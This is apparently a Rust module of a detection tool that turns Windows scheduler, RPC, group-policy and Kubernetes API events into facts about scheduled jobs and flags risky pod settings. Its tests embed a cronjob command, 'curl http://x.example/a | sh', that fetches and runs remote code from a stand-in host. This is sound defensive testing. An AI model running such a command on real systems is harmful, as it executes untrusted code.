/*!
Calls that reach a scheduler over the network, and what loads its library:
shares, the directory, RPC, Kubernetes' API.
*/

use memchr::memmem;

use super::facts::{Activity, Interface, Jobs, Scheduler, Text, host};
use super::traits::Trait;
use super::{action, table};
use crate::bytes;
use crate::derive::canonical::arena::{Arena, Piece};
use crate::derive::canonical::command::{Command, Commands, Origin, System};
use crate::event::{Event, Field};
use crate::record::syntax::json::{Cursor, Value, unescape_short};

fn has(text: &[u8], what: &[u8]) -> bool {
    bytes::find(text, what, 0, false).is_some()
}

/// A library of the task scheduler was loaded: whoever did may register
/// tasks.
pub(crate) fn module(event: &Event<'_>, jobs: &mut Jobs) {
    let library = event.get(Field::ImageLoaded).unwrap_or_default();
    let is = |name: &[u8]| bytes::ends_with(library, name, false);
    if is(br"\taskschd.dll") || is(br"\mstask.dll") {
        jobs.say(Field::JobScheduler, Scheduler::WindowsTasks.name());
        jobs.say(Field::JobInterface, Interface::Com.name());
        jobs.say(Field::JobTrait, Trait::LibraryLoaded.name());
        jobs.end();
    }
}

/// A pipe or a file of a share was opened.
pub(crate) fn share(
    event: &Event<'_>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let target = event.get(Field::RelativeTargetName).unwrap_or_default();
    // Rights to write, to append and to delete; of a file only these count.
    let mask = event.get(Field::AccessMask).unwrap_or_default();
    let mask = mask.strip_prefix(b"0x").unwrap_or(mask);
    let mask = str::from_utf8(mask).ok();
    let mask = mask.and_then(|mask| u32::from_str_radix(mask, 16).ok());
    let writes = mask.is_none_or(|mask| mask & 0x1_0006 != 0);
    if target.eq_ignore_ascii_case(b"atsvc") {
        jobs.say(Field::JobScheduler, Scheduler::WindowsTasks.name());
        jobs.say(Field::JobInterface, Interface::Rpc.name());
        own_host(event, commands, jobs);
        if writes {
            jobs.say(Field::JobTrait, Trait::PipeWritten.name());
        }
        jobs.end();
    } else if writes
        && has(target, br"\preferences\scheduledtasks\scheduledtasks.xml")
    {
        jobs.head(Activity::Update, Scheduler::WindowsTasks, Interface::File);
        let file = commands.arena.add(target);
        jobs.write(Field::JobFile, file);
        jobs.end();
    }
}

/// The host that an event of the network is about is the one that logs it.
fn own_host(event: &Event<'_>, commands: &mut Commands, jobs: &mut Jobs) {
    if let Some(name) = event.host {
        let name = commands.arena.add(name);
        let name = host(name, &mut commands.arena);
        jobs.write(Field::JobTarget, name);
    }
}

/// The extension by which a group policy has scheduled tasks.
const TASKS_EXTENSION: &[u8] = b"aadced64-746c-4633-a97c-d61349046527";

/// A group policy was given scheduled tasks.
pub(crate) fn directory(event: &Event<'_>, jobs: &mut Jobs) {
    let attribute = event.get(Field::AttributeLdapDisplayName);
    let value = event.get(Field::AttributeValue).unwrap_or_default();
    let is_added = event
        .get(Field::OperationType)
        .is_none_or(|operation| operation != b"%%14675");
    let is_extension = attribute.is_some_and(|name| {
        bytes::ends_with(name, b"MachineExtensionNames", false)
            || bytes::ends_with(name, b"UserExtensionNames", false)
    });
    if is_extension && is_added && has(value, TASKS_EXTENSION) {
        jobs.head(Activity::Update, Scheduler::WindowsTasks, Interface::File);
        jobs.say(Field::JobTrait, Trait::FileGroupPolicy.name());
        jobs.end();
    }
}

/// An interface of RPC that schedules.
struct RpcInterface {
    uuid: &'static str,
    scheduler: Scheduler,
    /// What its operations do, by number.
    operations: &'static [(u32, Activity)],
}

/// Interfaces of the task scheduler, of its first version, and of `at`.
const INTERFACES: [RpcInterface; 3] = [
    RpcInterface {
        uuid: "86d35949-83c9-4044-b424-db363231fd0c",
        scheduler: Scheduler::WindowsTasks,
        operations: &[
            (1, Activity::Create),
            (2, Activity::Query),
            (6, Activity::Query),
            (7, Activity::Query),
            (12, Activity::Start),
            (13, Activity::Delete),
            (19, Activity::Enable),
        ],
    },
    RpcInterface {
        uuid: "378e52b0-c0a9-11cf-822d-00aa0051e40f",
        scheduler: Scheduler::WindowsTasks,
        operations: &[],
    },
    RpcInterface {
        uuid: "1ff70682-0a51-30e8-076d-740be8cee98b",
        scheduler: Scheduler::At,
        operations: &[
            (0, Activity::Create),
            (1, Activity::Delete),
            (2, Activity::Query),
            (3, Activity::Query),
        ],
    },
];

/// A call of a scheduler's interface.
pub(crate) fn rpc(
    event: &Event<'_>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let uuid = event.get(Field::InterfaceUuid).unwrap_or_default();
    let mut known = INTERFACES.iter();
    let found = known.find(|known| has(uuid, known.uuid.as_bytes()));
    let Some(RpcInterface { scheduler, operations, .. }) = found else {
        return;
    };
    let number = event.get(Field::OpNum).and_then(bytes::number);
    let activity =
        operations.iter().find(|(known, _)| number == Some(i64::from(*known)));
    if let Some((_, activity)) = activity {
        jobs.say(Field::JobActivity, activity.name());
    }
    jobs.say(Field::JobScheduler, scheduler.name());
    jobs.say(Field::JobInterface, Interface::Rpc.name());
    let address = event.get(Field::IpAddress).unwrap_or_default();
    let is_own = matches!(address, b"" | b"-" | b"127.0.0.1" | b"::1");
    if !is_own {
        own_host(event, commands, jobs);
    }
    jobs.end();
}

/// What the controller of cron jobs calls itself.
const CONTROLLERS: [&[u8]; 2] = [
    b"system:serviceaccount:kube-system:cronjob-controller",
    b"system:serviceaccount:kube-system:job-controller",
];

/// A request to Kubernetes' API server.
struct Request<'e> {
    verb: &'e [u8],
    resource: &'e [u8],
    namespace: &'e [u8],
    name: Option<&'e [u8]>,
    user: &'e [u8],
    object: Option<&'e [u8]>,
}

/// A request to Kubernetes' API server about a job.
pub(crate) fn kubernetes(
    event: &Event<'_>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let value = |field| event.get(field).unwrap_or_default();
    let code = event.get(Field::ResponseStatusCode).and_then(bytes::number);
    let is_done = code.is_none_or(|code| code < 400);
    let is_part = event.get(Field::ObjectRefSubresource).is_some();
    let group = event.get(Field::ObjectRefApiGroup);
    let is_of_other = group.is_some_and(|group| group != b"batch");
    if !is_done || is_part || is_of_other {
        return;
    }
    let request = Request {
        verb: value(Field::Verb),
        resource: value(Field::ObjectRefResource),
        namespace: value(Field::ObjectRefNamespace),
        name: event.get(Field::ObjectRefName),
        user: event.user.unwrap_or_default(),
        object: event.get(Field::RequestObject),
    };
    request.read(commands, jobs);
}

/// The same as Google's log has it, where the method names the resource and
/// what was done, `io.k8s.batch.v1.cronjobs.create`, and the resource's name
/// is a path, `batch/v1/namespaces/ns/cronjobs/j`.
pub(crate) fn google_kubernetes(
    event: &Event<'_>,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let method = event.get(Field::MethodName).unwrap_or_default();
    let mut words = method.rsplit(|byte| *byte == b'.');
    let (verb, resource) = (words.next(), words.next());
    let path = event.get(Field::ResourceName).unwrap_or_default();
    let after = |name: &[u8]| {
        let mut parts = path.split(|byte| *byte == b'/');
        parts.find(|part| *part == name).and_then(|_| parts.next())
    };
    let resource = resource.unwrap_or_default();
    let request = Request {
        verb: verb.unwrap_or_default(),
        resource,
        namespace: after(b"namespaces").unwrap_or_default(),
        name: after(resource),
        user: event.user.unwrap_or_default(),
        object: event.get(Field::Request),
    };
    request.read(commands, jobs);
}

impl Request<'_> {
    fn read(self, commands: &mut Commands, jobs: &mut Jobs) {
        let Request { verb, resource, namespace, name, user, object } = self;
        let is_own = CONTROLLERS.contains(&user) && resource == b"jobs";
        let is_about_jobs = matches!(resource, b"cronjobs" | b"jobs");
        if !is_about_jobs || is_own {
            return;
        }
        let activity = match verb {
            b"create" => Activity::Create,
            b"update" | b"patch" => Activity::Update,
            b"delete" | b"deletecollection" => Activity::Delete,
            b"get" | b"list" | b"watch" => Activity::Query,
            _ => return,
        };
        jobs.head(activity, Scheduler::Kubernetes, Interface::Api);
        if let Some(name) = name {
            let mark = commands.arena.mark();
            if !namespace.is_empty() {
                commands.arena.extend(namespace);
                commands.arena.push(b'/');
            }
            commands.arena.extend(name);
            let name = commands.arena.since(mark);
            jobs.write(Field::JobName, name);
        }
        if !user.is_empty() {
            let user = commands.arena.add(user);
            jobs.write(Field::JobAuthor, user);
        }
        let of = match user {
            user if user.starts_with(b"system:serviceaccount:") => {
                Trait::AuthorServiceAccount
            }
            user if user.starts_with(b"system:") => Trait::AuthorSystem,
            _ => Trait::AuthorPerson,
        };
        jobs.say(Field::JobTrait, of.name());
        if let Some(object) = object {
            specification(object, commands, jobs);
        }
        jobs.end();
    }
}

/// How deep the objects of a specification are followed.
const MOST_DEPTH: usize = 24;

/// What a job's specification says: schedule, containers, and what they may
/// reach. Read as far as it can be.
fn specification(object: &[u8], commands: &mut Commands, jobs: &mut Jobs) {
    let mut cursor = Cursor::new(object);
    let mut path = Path::default();
    let read = match cursor.value() {
        Ok(Value::Object) => walk(&mut cursor, &mut path, commands, jobs),
        Ok(Value::Array) => patches(&mut cursor, &mut path, commands, jobs),
        _ => return,
    };
    // What is cut says what stands before the cut.
    let _ = read;
    container(&mut path, commands, jobs);
}

/// Reads a JSON patch: a list of operations, each of which has the path of a
/// member and what that becomes.
fn patches(
    cursor: &mut Cursor<'_>,
    path: &mut Path,
    commands: &mut Commands,
    jobs: &mut Jobs,
) -> Result<(), crate::record::RecordError> {
    while cursor.element()? {
        match cursor.value()? {
            Value::Object => {}
            list @ Value::Array => {
                cursor.close(list)?;
                continue;
            }
            _ => continue,
        }
        let (mut name, mut value) = (&b""[..], None);
        while let Some(member) = cursor.member()? {
            if member == b"value" {
                value = Some(cursor.clone());
            }
            match cursor.value()? {
                Value::String(inside) if member == b"path" => {
                    let mut steps = inside.rsplit(|byte| *byte == b'/');
                    let is_place = |step: &&[u8]| {
                        *step == b"-" || step.iter().all(u8::is_ascii_digit)
                    };
                    name =
                        steps.find(|step| !is_place(step)).unwrap_or_default();
                }
                opened @ (Value::Object | Value::Array) => {
                    cursor.close(opened)?;
                }
                _ => {}
            }
        }
        if let Some(mut value) = value {
            put(name, &mut value, path, commands, jobs)?;
        }
    }
    Ok(())
}

/// What is known while a specification is walked.
#[derive(Default)]
struct Path {
    depth: usize,
    /// Words of the container's command that is being read.
    words: Option<Piece>,
    image: Option<Piece>,
}

fn walk(
    cursor: &mut Cursor<'_>,
    path: &mut Path,
    commands: &mut Commands,
    jobs: &mut Jobs,
) -> Result<(), crate::record::RecordError> {
    path.depth = path.depth.saturating_add(1);
    while let Some(name) = cursor.member()? {
        put(name, cursor, path, commands, jobs)?;
    }
    path.depth = path.depth.saturating_sub(1);
    Ok(())
}

/// What a member of a specification says, whose value comes next.
fn put(
    name: &[u8],
    cursor: &mut Cursor<'_>,
    path: &mut Path,
    commands: &mut Commands,
    jobs: &mut Jobs,
) -> Result<(), crate::record::RecordError> {
    match cursor.value()? {
        Value::Object if path.depth < MOST_DEPTH => {
            if name == b"hostPath" {
                jobs.say(Field::JobTrait, Trait::PodHostPath.name());
            }
            walk(cursor, path, commands, jobs)?;
        }
        Value::Array if matches!(name, b"command" | b"args") => {
            words(cursor, path, commands)?;
        }
        Value::Array if path.depth < MOST_DEPTH => {
            while cursor.element()? {
                let value = cursor.value()?;
                if value == Value::Array {
                    cursor.close(value)?;
                } else if value == Value::Object {
                    walk(cursor, path, commands, jobs)?;
                    if matches!(name, b"containers" | b"initContainers") {
                        container(path, commands, jobs);
                    }
                }
            }
        }
        opened @ (Value::Object | Value::Array) => cursor.close(opened)?,
        value => member(name, value, path, commands, jobs),
    }
    Ok(())
}

/// A plain member of a specification.
fn member(
    name: &[u8],
    value: Value<'_>,
    path: &mut Path,
    commands: &mut Commands,
    jobs: &mut Jobs,
) {
    let Some(raw) = value.raw() else { return };
    let text = unescaped(raw.bytes, &mut commands.arena);
    let is_true = commands.arena.get(text) == b"true";
    let of_pod = match name {
        b"privileged" => Some(Trait::PodPrivileged),
        b"hostPID" | b"hostNetwork" | b"hostIPC" => {
            Some(Trait::PodHostNamespace)
        }
        _ => None,
    };
    if let Some(of_pod) = of_pod.filter(|_| is_true) {
        jobs.say(Field::JobTrait, of_pod.name());
    }
    // As what a pod is to run on, or may run on.
    const CONTROL_PLANE: [&[u8]; 2] = [
        b"node-role.kubernetes.io/control-plane",
        b"node-role.kubernetes.io/master",
    ];
    let value = commands.arena.get(text);
    if CONTROL_PLANE.contains(&name)
        || name == b"key" && CONTROL_PLANE.contains(&value)
    {
        jobs.say(Field::JobTrait, Trait::PodControlPlane.name());
    }
    match name {
        b"schedule" => {
            if let Some(trigger) = table::schedule(text, &commands.arena) {
                jobs.say(Field::JobTrigger, trigger.name());
            }
        }
        b"suspend" if is_true => {
            jobs.say(Field::JobActivity, Activity::Disable.name());
        }
        b"serviceAccountName" => {
            jobs.push(Field::JobUser, Text::Written(text));
        }
        b"image" => path.image = Some(text),
        b"nodeName" | b"path" => {
            let text = commands.arena.get(text);
            if has(text, b"docker.sock") || has(text, b"containerd.sock") {
                jobs.say(Field::JobTrait, Trait::PodRuntimeSocket.name());
            }
        }
        _ => {}
    }
}

/// The words of a container's command, as one line.
fn words(
    cursor: &mut Cursor<'_>,
    path: &mut Path,
    commands: &mut Commands,
) -> Result<(), crate::record::RecordError> {
    while cursor.element()? {
        let value = cursor.value()?;
        if matches!(value, Value::Object | Value::Array) {
            cursor.close(value)?;
        }
        let Some(raw) = value.raw() else { continue };
        let word = unescaped(raw.bytes, &mut commands.arena);
        let line = path.words;
        let arena = &mut commands.arena;
        path.words = Some(action::add_word(line, word, arena));
    }
    Ok(())
}

fn unescaped(raw: &[u8], arena: &mut Arena) -> Piece {
    if memmem::find(raw, b"\\").is_none() {
        return arena.add(raw);
    }
    // One that is longer stays as it is written.
    let mut scratch = [0; 4096];
    match unescape_short(raw, &mut scratch) {
        Some(text) => arena.add(text),
        None => arena.add(raw),
    }
}

/// States what a container starts.
fn container(path: &mut Path, commands: &mut Commands, jobs: &mut Jobs) {
    let (words, image) = (path.words.take(), path.image.take());
    let Some(line) = words.or(image) else { return };
    let outer = Command::nowhere(Origin::outermost(System::Unix));
    action::push_shell(commands, line, outer, jobs);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::derive::job::event::read;
    use crate::event::KubernetesApiCall;

    fn patched(object: &str) -> String {
        let mut commands = Commands::default();
        let mut jobs = Jobs::default();
        let event = Event::kubernetes(KubernetesApiCall {
            verb: Some(b"patch"),
            object_ref_resource: Some(b"cronjobs"),
            object_ref_namespace: Some(b"ns"),
            object_ref_name: Some(b"j"),
            request_object: Some(object.as_bytes()),
            ..Default::default()
        });
        read(&event, &mut commands, &mut jobs);
        assert_eq!(jobs.len(), 1);
        jobs.shown(0, &commands.arena)
    }

    #[test]
    fn requests_for_other_things_are_no_jobs() {
        let create = KubernetesApiCall {
            verb: Some(b"create"),
            object_ref_api_group: Some(b"batch"),
            object_ref_resource: Some(b"cronjobs"),
            ..Default::default()
        };
        let count = |call: KubernetesApiCall<'_>| {
            let mut commands = Commands::default();
            let mut jobs = Jobs::default();
            read(&Event::kubernetes(call), &mut commands, &mut jobs);
            jobs.len()
        };
        assert_eq!(count(create), 1);
        for other in [
            KubernetesApiCall { verb: Some(b"proxy"), ..create },
            KubernetesApiCall { object_ref_resource: Some(b"pods"), ..create },
            KubernetesApiCall {
                object_ref_api_group: Some(b"apps"),
                ..create
            },
            KubernetesApiCall {
                object_ref_subresource: Some(b"status"),
                ..create
            },
            KubernetesApiCall { response_status_code: Some(b"403"), ..create },
        ] {
            assert_eq!(count(other), 0);
        }
    }

    #[test]
    fn patches_say_what_the_object_would() {
        const POD: &str = "/spec/jobTemplate/spec/template/spec";
        let merged = patched(
            r#"{"spec":{"schedule":"* * * * *","jobTemplate":{"spec":{"template":{"spec":{"containers":[{"command":["/bin/sh","-c","curl http://x.example/a | sh"]}]}}}}}}"#,
        );
        assert!(merged.contains("Command=curl"), "{merged}");
        let whole = format!(
            r#"[{{"op":"test","path":"/spec/suspend","value":[[]]}},7,{{"op":"replace","path":"/spec/schedule","value":"* * * * *"}},{{"path":"{POD}/containers/0/command","value":["/bin/sh","-c","curl http://x.example/a | sh"],"op":"replace"}}]"#
        );
        assert_eq!(patched(&whole), merged);
        let added = format!(
            r#"[{{"op":"add","path":"{POD}/volumes/-","value":{{"hostPath":{{"path":"/"}}}}}},{{"op":"add","path":"{POD}/hostPID","value":true}}]"#
        );
        let found = patched(&added);
        for told in ["Trait=pod_host_path", "Trait=pod_host_namespace"] {
            assert!(found.contains(told), "{found}");
        }
        for nothing in ["[", "[{\"op\":\"remove\"}]", "[[[]],{}]", "7", ""] {
            assert!(!patched(nothing).contains("Command"), "{nothing}");
        }
    }
}
